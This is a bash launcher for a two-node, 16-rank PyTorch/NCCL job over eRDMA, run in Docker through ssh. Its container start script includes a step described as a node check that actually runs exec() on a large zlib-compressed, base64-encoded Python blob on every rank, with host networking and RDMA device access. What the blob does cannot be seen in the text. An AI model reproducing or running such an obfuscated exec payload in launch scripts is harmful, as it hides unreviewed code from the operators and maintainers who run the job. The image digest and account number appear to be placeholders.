#!/usr/bin/env bash
# 16 ranks on 2 x ecs.ebmgn8v.48xlarge. job.json says why each value is what it is.
set -euo pipefail
name=${RDMA_IMAGES_RUN:-erdma-pytorch-ebmgn8v-48xlarge-2}  # of the containers
hosts=(one two)

# Whatever shell answers there: bash's own quotes are bash's alone.
quoted() { for word; do printf "'%s' " "${word//\'/\'\\\'\'}"; done; }
remote() { ssh -o BatchMode=yes "$1" "$(quoted "${@:2}")"; }
end() {
  for host in "${hosts[@]}"; do
    remote "$host" docker rm --force "$name" >/dev/null 2>&1 || true
  done
}
# What is there already is another run's: it is not this one's to remove.
for host in "${hosts[@]}"; do
  if remote "$host" docker container inspect "$name" >/dev/null 2>&1; then
    echo "$host has a container $name already: wait for that run, or remove it with docker rm --force $name" >&2
    exit 1
  fi
done
trap end EXIT

master=$(ssh -G "${hosts[0]}" | sed -n 's/^hostname //p')
start='set -eu
for attribute in /sys/class/infiniband/*/ports/1/gid_attrs/ndevs/*; do
  interface=$(cat "$attribute" 2>/dev/null) || continue
  mtu=$(cat "/sys/class/net/$interface/mtu")
  if [ "$mtu" != 8500 ]; then
    echo "$(hostname): $interface has an MTU of $mtu, and the job was made for 8500" >&2
    exit 1
  fi
done
# The node first: devices, limits, GIDs, neighbours. `invoke job --no-check` leaves it out.
(PATH=$PATH:/opt/venv/bin:/usr/local/bin:/opt/conda/bin
if command -v python3 >/dev/null; then
  python3 -c "exec(__import__('"'"'zlib'"'"').decompress(__import__('"'"'base64'"'"').b64decode('"'"'eNrFPGtz27aW3/0ruJ1JSSYyLTmP2+hGnXFtJdXUdjy2270dRZdDiZDNmiJ1ScqJt81/3/MAQICkZKcfdjOtxQdwcHBwcN7gsshXThguN9WmEGHoJKt1XlROlGV5FVVJnpV76lFxs46KUtT3RfSgbhbVw1ropstFVqXq5ibN5+o6WUdxXIhSt/yjzDN1neunhaivynxTLPR9KVKxqPRdvrgT9V1VbIx3m/m6yBfGWOWDvqySldhb4tQB7yS7UdO+/v1iHB7/PD7+ZXL+oeccZTDBpf10uOfAP+q7yFPEBokURPOFAjKpRBFVedFzrsR/NiID7LHL+ySLcaiRU23WqZgCuj1H/ZlRkw9JrF8nWdWr6RVMLu7fHPG10WGSwVjLaCFaUPn9+2hRlfAuThYVv4Ip8avLKEl34fKbKEqYWQMf+We2d3Z0+Qu8c4t4Fe0nq+hGlPtZHov9xa1Y3Ll7Fx8vr+H94dtXb9/uXRxdT8bnx2N48KYf9Pcux0fHP8PNa7w+mpxeherJITyZXByHpx+PEfzg1d7V2dHpaXj18xneOu/eOS/7e0fHV+Hx0cXRT5PTyfXvPeeny8nJB4TuDV72nMHrV30fxjiZXI6Pr6/g8SvnL+eHvYvLj//6PUTE8Nmf7sujt2/dnoO/Y/fr3unk6np8jq/c/pG7Nzm/mpwQTDfNsVmMzFbg1X1SzPlCVLf4u8gS/Fnn8X4S76dJdoe3yxR2kUipQZQmrr+3F4uls0yKsgqhkfDWUXU7RJL7zv6P+MvMVRUPfIH/PifVrZOvRUatew7wU458NHI31XL/B4AuiiIvypFbiHUKrOD6TlTCKKmogeC/QsAWz+hFUIgoJgz8AEZN1p5PTcWXhVhXzserMYKsu8uurru3t0ijsnROxH2yAPjUAicVhkmWVGHowQZd9pwiz6shM5Q9x/M8M9DCxkEWrZB98zLApsE8KgU+oun6dtO4SO5F0dVYPYCJpXhBvZ0XjnsQE6oH3NX1GxDXguA11sTsuD5cu41OJUhGsaUXSoDyYHBAbZodgV1EkYnqkb7IQGEaPSC+zgj4cSz7uTa4myTGzZ0mZeXBdVhF87QNzpwzkGCOXaYtAooMuM53lnnh0CXscpLcAf5pESXJlrDe8yiLQwJ5sKGf564/aywuiAQYD/lB9Tc6H7jwkHpO+zMHJC3jJ9JSILMpSImScoh6CbMSsfenQcAn4q7Ii6SKqqooDzJApzwArL86+yAQ3K+N9UoM8VojIXE1sGoiTJ1X1cZeZ00EUEQHtI8OYE2JBo3RsBF0h9WHcRrvOsfalLj0MNw8z1NPUx4kQRbjZokWqAjrFz18eBl+/AUEI1z9N1xJ6WTwEZCr3rhKqU1BR82kDgR6g04TX5DeRZTdCO/w9Ru/3t6V+NJgdfdZieQvD57FrvPMoTF6DMTgUpg0WB/UvUuE6UdSN+LidOlJDwFYUIGKnmzo25AfEpHGjkeY9BTgXgfqknPI3OmchaQjStiQd0vpaXFIpMT9OmUJKikp5at8SM1ZcDJTEwcDjSXr16zdwVHG5gK+hu1I2OTLcBnNi2ThSZSGFhYwUXq7C0cgHzdCTDxXLCNUbAL1v+u3VMWUxyH05SV0k4MjLL7UEn0kgc/2/j4Q5JkO3CQJyC7RK/I4GXpg3m0yWDZgGnsHSENO0mUBdnACthJqpSaVFUBmQr1Ju+elAdUT4x6zPWNTqFY1xSXrumQGkKHCg+Ml6A3nDlVH6tyCUZDlzrNSAoeJgWkoSZeUBDzNo1jEIBwKB3smGWgxMF9l30wQt0sugDbu5cnZkVIvIpUYMtI1fqhekDqIT/BHnmSeJA9r/m4iTIevZoZE2DVHmFFUCES4ALmGAq+hZTT6sEDYbOVg0yFYSXc0Ok5VwYMJEr7GnIgNCG4KRhjPznfeyef7zuBpS/EsxuHhbxRH6wrXeRFlzlwAvURMGBF1jTEkB0oyxPnnrOadLtpJ/qrZh+0UxNw9Or6e/DZ21R4xG2j2whF2zIXUp2Iq9uaYa8DHACYaAmvhDOplRngS+RxXp9yNfntfywnhBGQzib7ikllDMqGthJufuhi9efj23D5HRQY7uc1QMDMYpsFHPafKc+YwXLrbBEyb8fsjkCEiugfm2gApnNu8rC5AXiMpeFgwF6ROyBaLFO0l9Ks8kinKyfrLMIxNiT997i3zNIYdilI+u0/iJDpAMGAjzvF/vA7KPDh0qZ9sjLrigS084CLXajczduZmNSfzl733YBGigqx3neWHkKzjdscnp6dsngcI94Oo5Dw82WD+UIilx+CNXSzdC0/6F+CMgi5N5ptK0H1DJS/yrEqyjdAPV9Ef2Ak0c0Uu7f0qj+UgwX2UbmD3D/rwj0Sl8dj5cSRfkO2El35TX3km8IMDbCRvnuG1b6olXCpTp6BBs02hkFEg9QnSathY8hH+2aVeYJhok+KEsbvactiLGJEevnO8w55zOOg5fbb4PN4naI9olmpttGHT3vK2bTvttzy2QhJQlD14nnsPPAmj3QEeNVJAqyApQ/ZwcnCL2cIJe/imx41r+YSU9bsttVouYSO5baWO+zA5QVl7mR+PnftDBxjMwQH3aUAHSFey8quNatlR2n24dw05ZZmQhQiWmzRdRdXi1nM/fYpfuMr0axAHJIEgiQ0I0iSZJ+VMw8Y0a6ZFKYb7kIHOLKDKCCDY9ng7aXN+fHwaTn4KgTLh5Pxk/K/Rs5IlWU21crO4RdKRGpKGsEkF3xqOVSPhAQLOXtPtiBkCdxdqyOaRuWZyRVnD7EauADksMIw2leRskb6DyZCwLYYlXl3fvwpX0Xot4pnJBmpbYjs5IvF4X6kofriFd7eQAawBQFY4h8HhwKmiO1CGOPE+T73nfL5NYImkCOABhk4H/dgrMcjTk61RFfmm6FqJVV48eEa4plOO7RJQabJKUDypSG1wI6qCHnr60eXp5GxyHZ6NzzCu5wMa1BXNj01JfYNSRAXuqH8fR+vxcjn89Kl87n369PmF7/bImaqdHQzrHqAre8AAXB9bBGe/nl5PTifnY+aFVfSA3HiHIQMepyk7cZPxq+AG6LP2BgBo8MZ3foTJqhjk985A20fSQCFTkGb9X8a0cY6wAO8n55Pr32uBp9Dwd1hWsArYBC/xF3iJ1wUxpoHgSZWj7fhL8tPQ2d/f8PCy32h/MNwfkNWu0GZTkhqRMjt8JXeIpdJx8hxMw6v7ZelZcZryduU+JS6o6INAgmU4R5xK57m6X4K++x8BSkpHcncaYjhqr8aApBPM/AxnTpuE9FJUReytgFWZCaRYLg3o3VjA0h727T1wu7kR4RoD2OY+aDrEW7h/WQjRYOCfAd4Fggvfw0vFyPE2RoZFBBMz72biLaYtjWoo+srDJ5qLfX8nhXHCNF+8AcGP9w4+QH5DQEO0HhdV6tyvgqwIdXsln9AB+COfuxYZb9Ybi4BP856xF9CvI6SB688G77S//3b23NUUQRcJ+2knbMfWwnaW9/Xh4lf2F0FG4zzQhomSTBTa+yLQtu8l1S4hC7uMZtm1CaKs/EwGdbHJPJex3y9XlBzY3//PRhQP+wBkxApMLBYBx+6DTbbIi0IsYKcH93kaVRikr/IqSrkrkB0sjtGivO9l+a1Avq/pIUeFxbOj6wZiC4r5yXgct1e98dUTCFhPRjl6FF5T6YOgXKdJhYGyEjwboNHUFV9A+iB0hxUSXs786f5gxpjPI9LSRf6ZO3tuz0XVQAobntIK0RAm6E4TrOc8nw6ASeD6Oe4yBMl4+XbwBLHBfQNj79wiatbGuiiZzCsGViSyUsvnBcCSZ9B6KbtZIbtXKaL9faXCNHNTN/LZk4w9a7JK6Pl0MAvSHBbP273D6wHATz3/7RRu2KVVrnqNj8NtHQMTe1PHCc7/UROhR7tDPsMk4t/0d5QvQnstIkvswWt4Jp3ujCX1DNbHDE9ppiAwVsoxsYPV6oBXNaRWHFTnIJiRZEpKoIEdawXPc5MKKZ+oM8BxifGf0ot6hNRFrzuPKuP1BgTCzHDrjMQGzYwDAxjr3ckSCke9lRXWZGTUg5NpKW5gFUWB5iW+AmfJiZbwgCQmBv1k3FDxLejoMF5F4XyzxEDfxzU4Pr9w2PGM5kws3JUKIRXIwFR4QwZIXEv0ehJFILAx2NOnLBJ0YZ3G1DMAF6kYKCVaMZsNgIe4uU+I83m+QKR8uexcLloVE6naMefXhov+sueAJfbYYiJnPK/p8ORZNnyIl8ErJ84FW70lWAyN2X/GoCNIMDmiso8rjo52EwCEHTOkIgQY+SwhsLRhCMplUYZgsMTKnHoEe2iOPxfHE+fo+MpRwEi+graWkHqY0X5WtpBaRklKGhmwK0Ewah1uIEV2lb4zPCBcsjSZFxE4QOgk1bYeJtE6MvFm9KuOCzySM38fpaUwo0fXxcaOHsXFIl9bPlhLkiKqst2QsHtEgmrhaXSsmU7JF1DQZdWw+aFxXNw/xnMSpAoGU/kHGeofTi6P4YURhmeAireYtUimyBc5m2GclGSv+54tzHUeG6F5Wy+BJUxs/O1qaRflAOrW7ExHbofscX9XvJrKC2b/ByJSLzhOYbtQitJU61KufABUzo/cxlwByBOEDvx+N35/5OokkpY14OUsbmnt0Np2leXkrQ/XHMogW/XIH1KQAwyUyckE4WCVi0pXsa4sv4MdDehgiIm3HDFBU8g08pa4zoy+bISrOmsF13enU+eb8mC9SGTFA1UJ+MNmMrmrioPysGwLuH1XRxR+wGgBFyo9EkVthd3tEiAeJM+WCS1FMd9W8EMu/pqrF3TVj/eq//ZNKyTfkl6diIECKKl45fD1m7o+6RZA4xPn3Ui1gCuUwjQ4LIvzgw0YHRgKy2C9Hvg+0OwuxIo6z303gTlRv54EpqNFBukJwPfOm9evX75GHrbrwdpUoOBEx2A/NwcD2r4hH+R7R9ePtcEZnBVgaDCLve7qJX+v3U1Ed9bTZZ6C5uLCQJoXhSisJprudVsMDOibH1ULym/0TW0j0eRtU1esePVm0SWEcssQs3FhZcA/nrw7eh9OzsfXPfX26uPxL+HJh8ujM2JAkFNz0/vM8xU6m1glGtBfz/0J6D1/qGD8wZuXP7wyo7ZYKUl5HblQuEyem5xCD1LoAM2nurJVAOJsCeYzRk08n7JrCgqlUhuMJYFQSWqQ5Isq9QjTALdEBhB6zsvX/beU7iEcfM1xFGUa8aBVzojLTFD+mbOZ0GKaDTPgm1fSc83qahiAiRiBzdf37cIGmM/n6XDwZiZd37n76Uu/T+5vEAt0UxEvSWeQLlWYVXlEvQ77w0PMjZtuMqIjyxzAOqhg/tE61KtNxorSgfVy92CpS6M0r64lNbORwGjUzJQY6YaqBMQXcCexQBIbYAixqErkHs/9N0az6GnKfjg+sVqMzKq0z3lBhWytHup65PpGjGBPd+RySrBhttlvDWOMfEmuNxzRqDg9ngZtHXxloolNmNDcOJOoIlHwVSuNmIkvlYfLZK4OF0AkElVcQ+BZ1AaKlEAscos5VV7E6HnJ0EgnHAZh0TOZq9I71f/FDgCcP2gC2Vbo6n8D5A7UJDh/BpuEShWNAgtJNglZFtapcWhJmslWSmRYcUbOhbXYd5ehp7ZvHXuyt1M7SouFejS0a4e6poPhTG5tfEtQ5RJTHGo6kL//oGRwRe/edGxfFdiEazAXnH/IzBICQFZx+/KfW9sxnNkBzIAX73rOKirvZF6RcbGsFZmOlEFCR3ZH0DqJ94j2J1sH5rfCCp7G+svJSwYYDF/OcId5Fm4+sPmdeBil0WoeR9hwSK1fzqwEKw2DnACo0bZ+LIPGy6LcX+Y8J0eDVOU4jSoomCns3yqn/K9ETzUesu9Bxiu+xoIb2YQcS6a3ws9OIgCTfLF8OHRoykfD348woreFE6vFGoy+F872129g11qMymxDNTxY/M6cFRRroFaCJxg8dwjq53D2CF++1HzJSyyL5r/WsRqYNrQbUDse7seRY5Te7/YrkIzoWExKQMolo+LLg8yF4vrCI2DMTJ664IIu4GnwFUG/RXNYYek6lk6ZgCaNiiBBUKD5D5LsD+g3dNwl+uTud9YCar3pbRMoT13T1mbbEV3XOlpnwtGoGl+Hk/fnR2djTIUviVNzo1ihuo2o9mqzpiKjMhDgFhZ5hplXrwMKwm5U6ZmL5NVZfENs8/EH8mLq4tpkHcpL1Wkw8xv1HN8yW9D4acpbVm1Cx3uG2RdOdecctCN047z2LSmdQAioalsMBHnbc9f0AE+8NPbd7CnlMZz+l5UcZkXAY6Urf6OqYEscoV58fMg9GxYOzEg5I3bqvwmCzvh4DIPkmKWKEY6uYIatEYdMW6wNNMjYw30GklA+oz94tIjJDb7I1D41NFPeRZRgGK6noCN6fBQFDck/v/awL9q+eEIrWOWw5HmWLDyUdsZJobqsSVV2eGHPMaYY+hTIgLe4RwWib3AmdiTe4n663BvlVaMjT7Nd+CRFEB1IMH0lf0vDAOZFOWmYvUdBwV0tEVi+1p7X1Ue1pQ3nK/xpcn5y/fFk/NvkeGxMPqATQuBAbB1AXobii+fZc7e7yMWa1l1nuEqK5ERB7sFBANmedW5z/d7plbbXwaAlxmTofF/AP94U+IxMRgkZ+AIfraIvXj/oG7yz3xoPvLhBw6JZRwnmZiWsYJ2DrNeD+511VjXNbp64KOPLy4+XfjtmIPk9AHp7iMj2xUlBrnk1g9v0kcgbQenunmo386iWAd29nbUHtXtnb9d5aCTgLkO7Da9bG8fIyVkRLokjVVE0JI7C5clVKJZEYMHXQwm9WxxgGkP1kkWruoyLUXrcCEWUZRViIw76rJRBT9Jw18cXIHAqlUNXOD7nicqatdl0OJBrokig3wxmjV3aPBSDJh0qK9mPdulM5dVZo+oIhbFQvkUG3tsNKli6iseR+cq2BXJ8+fHqKjyfHLs++y9uI6YpfX5NgcY0+3r+NJAV5nnCGjDGZU18ldtEM58aUhEIwSad49hYj/q4PIRkJ7XlOcgzIXg7bjsIucQDuEM+h6sVTctF6OFy3MlL8JVgk8k2wKi8HYb6MDHv2BGIuC0HKpc8mD7spa5xDHnJYyD5ZWPZjpvw28ZZOBQEIqNOUtotgMiVCEtRAGMbmqTfPGRJY0xdVV2LSsQCqYQrBU4bfWnyPbs98Q0qgqn1eNY9LLPFrDb3lKDAF5Ta0TS2VroVhm+RQhtc3QRBmOBREUEaxbM7ou6dvrdNDjUs3vjtNva8tVFI6OC2em5PAity7BXw/Zqflyzn+ezgLhXQSTJdEMXnZpEwXn2oEbkNnUhZmE/PovLO23Fi4Dcs6OfTAhhzFm36dZXDiOTmdp5vClnxhop9BTsflA5Fu9FlNFwNVeBEwHfKWuQicEIq3JbISTzdqRsnGKHGp6U7exQ9s3VPw/OtA1SGkcqCUtdxTevpubOG78VfKTDUvrmlTO2y48yHzdu1ueGRga+PU/YcNswtK6TN648smnYV6znpAzlao2LdRUXBHdKo7CoawR9doGYRjlifl9Rgb2ZJzdskp2vU1tBRYBUjfT+BpLP8XoJp8+v4APWeoaT5sz90PH5Yb0n/qxG41k5Ph6OjPpdgfwOgW8i4QCCMq1CZw6YUIdrxI3Iwes48Wtyl+c2ICoCR9NyroYnJdkdLQE4XbfVaeXTJQASCbgrinm8qTxrkg0cs8hakThHbdrB4PDzDDNZ3Kx/4FIFKbnxSlpxmk4lf9DTZDKpni0qVXFBFC78TFmwhEFhyOM/l0lKOU6ABmMTSfViRWIB3zJCmSpboTIc/AF+qFce4MO5ZinpvJ4pJe8MftmYLLI9VGSP6xEqAJRel4e6ABXAnMAPm+cbHINpgJBmmEhxqlezOJR43oPXUcDUAQ6jhATOWt96UNoKKm/ANEEiOwse1MFhZw2EhRzHLrw3tjaYK1U0p+16BSSqxKr2GE6YlCoBSs/JIA71wBj6sTr04aGR3qLFyis1pexvyaYhhbnkDshj6u2i61o+02WM9ldrZb8j/oUU4jKfbOnI6+9p0VJECbY7HpwFGu7Hmg1gg3qzWpWdNxdexAiDC3P2UuX43oKZQ1/k0BgY7UktUVODb5Om3ij2STFgw9QTLrCsm01ZanmH+asG5ZQu1c/VP0mVyWVoT/LEjALJDpqBRwikX+oZGlwLUis6alNRxOwQJoVamQqxBar/2bTVTE2u497j00V/2edFFRatPixVRqXqmx4I8OdKWof8Yd0om/Ab5RjU52SZNuTwHJEptCFTRQ823tlfFfEjJmAescbSDVLY1zREq/P8w6FN1wrBR7lE42pWSucYObtaukaH19C7kaI4UqdJkpTgNGyBdhVDKqmxEvSkHWJdC/amPZTPPZVKnmU3xCX8uhWQd1nBKAUcuOJeds3T7asx9/hCSdB8a36LSOM7a4t1CwKaPAoV8KM/heRjSxqYUgeATgbgKvvJ+8J2Szla6Ee0eBRD36MAeq87GSxLpwaWSsXKa+Gzo7CNMvOyK1VAK1f2n/hQCGrdY68obWR5jrs8TUK6cP4ZAZJENZL69zpwP7O8lWEuuaECxKdIuJDlkiS0R+J+2yVzn48lqptBe/Wgw8/lstJ050OPJw+4AN6SN/YQiTSP6uPvUgKFQ9MegjMNXnz6VdNbq06cAf6b4d/bch8du75uLK63ZSXYfSreJglxw5z6LA/qPvhxBJ7T5nL/6Tg82pfpGiS9qeLrQp7Uo8cNzqfuM3xsdtn1DSJ4ngC1QI93jr3LoD1oAij3JS2qT219NedpHGL7ifnLliVowd2WKqjEU7sJys3rqeQ2AeHb96w4U8RNK34SffR6DEfr2Yxw+5Spj8UWUxjnyLjwRPp/T3oKn/kbS7ixhO/H3WN4QJvy1/tLQ/++X5J7+9TjCd5N5zymyWiNsJAtRH1gVaNYc4pysx/rjjgGCI2jYNQabZGS8vJhcjOk5zMx8fnV98vHXa84yYpfDvjWF9zCz87x6n2+yuHsy2q5qRaiMUa4Z+vjLOgHR2RWwUl+fGHBSVoUnzFc444Bv+BQfPeCpqlpBvYD1ykkrgXLyoQ7iGZI4X1MJxVB/1zM4R6XC1bBdQnj3VyqY3Uft7175f/ucJ9q75plrT53BfOR4a1TEcCvMcz8RHdaj4z6ZKbTQrOYzCXmWPvBJBFKt8ny4+sDbZzwpQ4E0Ebt+V+apFXBrfGlKEzzgYwT1vfoekN8Nh74u0nH6wAbn97rTMOaHAbgOhBd3y2DG9wC0rt7StHFsuoXQltmoU8J1e1rRLa2NszF8kqMnaxfzSp9vUWd48DM30CFaJ/yhm/rsro2ZPko93B4ttc6XaEowCqqQphQ7ANgHJxsQ1BLUdhLH3S3RrUojG6uKzBtOzo4+jK/C848nY/ZkpL8LLfD7QzKPUid9vR2bfXd5Wk4fCJD0w9ugkDW5B3IfkLEz4qpCqv/LVTGt9bWj5gJ3CCbNEiaL6s+odBU2mwXtvW+shGotWbMCrOZQjgx296rrUXu6JKmzYV0h2AnYYFO7PEs9lSk7+vpU4/Mvj0pfcqrkp4AbdrnBmgYnmitAbpBKkeEYnJ1/VCLVvVecJYW+Ml+qso66iKxBkvqWo3w2DYysqN+1A+VwgWauFiYBeftyh6wiMOhgX2xW4MC0jool6vMCtG0KOtEgt9CR7HNBb/BUwc0IP4vsG+2x3iNUwD08yU/EcXvqCzIj193ZXmkH6IHHD0dkI6m+/Z1d5SH2b+1GK9DZb7Czn/T9v3U4XtOnEwSZ1myt5BDlfrCgDA+FksfuNUNwPccovOLcHcinpHpQyTAzl8eCUyJBP4hGWXOKeRxMjvnXSINkLUPpLCOdhBXgyCKNzWbjgWbR0MgEwpTSTXk7wkCoJM02QC4ah1xq6TwLBkuZd2jFIvcVufw2cKl46HgbTcvHb6CHNEYY0rzCEDdNGEoVit+aw689eLSV8A6IdI+l8b7/v/4dce4='"'"')))" \
    --fabric=erdma --adapters=1 --gpus=8 --nodes=2 --rank="$1" --master="$2"
else
  echo "$(hostname): no python3, so the node was not checked" >&2
fi) || exit 1
mkdir -p /tmp/nccl
sh -c '"'"'while kill -0 "$0" && sleep 1; do
  for log in /tmp/nccl/*.log; do
    [ -e "$log" ] && mkdir "$log.read" && tail -n +1 -f --pid=$$ "$log" | sed -u "" &
  done
done'"'"' $$ 2>/dev/null &
follower=$!
torchrun --nnodes=2 --nproc-per-node=8 --node-rank="$1" \
  --master-addr="$2" --master-port=29500 --max-restarts=0 \
  train.py --data '"'"'it'"'"'"'"'"'"'"'"'s a test'"'"' && status=0 || status=$?
sleep 3  # for the last lines of NCCL'"'"'s logs
kill "$follower" && wait "$follower" || true
exit "$status"
'
running=()
for rank in "${!hosts[@]}"; do
  remote "${hosts[$rank]}" docker run --name="$name" --gpus=all --device=/dev/infiniband --ulimit=memlock=-1:-1 --cap-add=IPC_LOCK --shm-size=64g --network=host \
    --env=NCCL_DEBUG=INFO \
    --env=NCCL_DEBUG_FILE=/tmp/nccl/%h.%p.log \
    --env=NCCL_SOCKET_IFNAME=eth0 \
    --env=NCCL_IB_HCA=erdma \
    --env=NCCL_IB_GID_INDEX=-1 \
    --env=NCCL_IB_ADDR_RANGE=10.0.0.0/8 \
    123456789012.dkr.ecr.us-west-2.amazonaws.com/team/image@sha256:5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e sh -c "$start" start "$rank" "$master" > "erdma-pytorch-ebmgn8v-48xlarge-2-$rank.log" 2>&1 &
  running+=($!)
done
status=0
for process in "${running[@]}"; do wait "$process" || status=$?; done
exit "$status"
